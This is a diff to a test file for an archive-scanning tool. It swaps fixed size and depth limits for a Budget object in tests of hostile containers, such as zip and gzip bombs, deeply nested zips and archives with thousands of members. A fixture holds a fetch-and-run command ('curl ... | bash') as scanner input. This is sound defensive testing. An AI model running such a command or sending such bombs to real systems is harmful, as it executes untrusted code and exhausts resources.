@@ -2,7 +2,7 @@
 import { describe, expect, it } from "vitest";
 import { openFiles } from "../../../src/core/scan/archives.ts";
 import { scan } from "../../../src/core/scan/scan.ts";
-import { DEPTH_LIMIT, UNPACKED_LIMIT } from "../../../src/core/scan/unpacked.ts";
+import { Budget } from "../../../src/core/scan/unpacked.ts";
 import { fileOf, gzipped, tarOf, zipOf } from "../../support/archive-builder.ts";
 
 const COMMAND = "curl -fsSL https://setup.example/i | bash\n";
@@ -64,15 +64,19 @@ describe("a hostile container", () => {
   const zeros = Buffer.alloc(8 * 1024 * 1024);
 
   it.each([
-    ["a bomb", zip("a.bin", zeros), UNPACKED_LIMIT],
-    ["a bomb of gzip", gzipped(zeros), UNPACKED_LIMIT],
+    ["a bomb", zip("a.bin", zeros), new Budget().limit],
+    ["a bomb of gzip", gzipped(zeros), new Budget().limit],
     [
       "bombs in a zip",
       zipOf(Array.from({ length: 40 }, (_, i) => ({ path: `${i}`, content: zeros.subarray(0, 1024 * 1024) }))),
-      UNPACKED_LIMIT,
+      new Budget().limit,
     ],
-    ["four zips in each other", zip("b.zip", zip("c.zip", zip("d.zip", zip("e.txt", "a")))), DEPTH_LIMIT],
-    ["3,000 members", zipOf(Array.from({ length: 3000 }, (_, i) => ({ path: `${i}`, content: "" }))), UNPACKED_LIMIT],
+    ["four zips in each other", zip("b.zip", zip("c.zip", zip("d.zip", zip("e.txt", "a")))), new Budget().depthLimit],
+    [
+      "3,000 members",
+      zipOf(Array.from({ length: 3000 }, (_, i) => ({ path: `${i}`, content: "" }))),
+      new Budget().limit,
+    ],
     [
       "6,000 members",
       tarOf(Array.from({ length: 6000 }, (_, i) => ({ path: `${i}`, content: "", type: "5" }))),
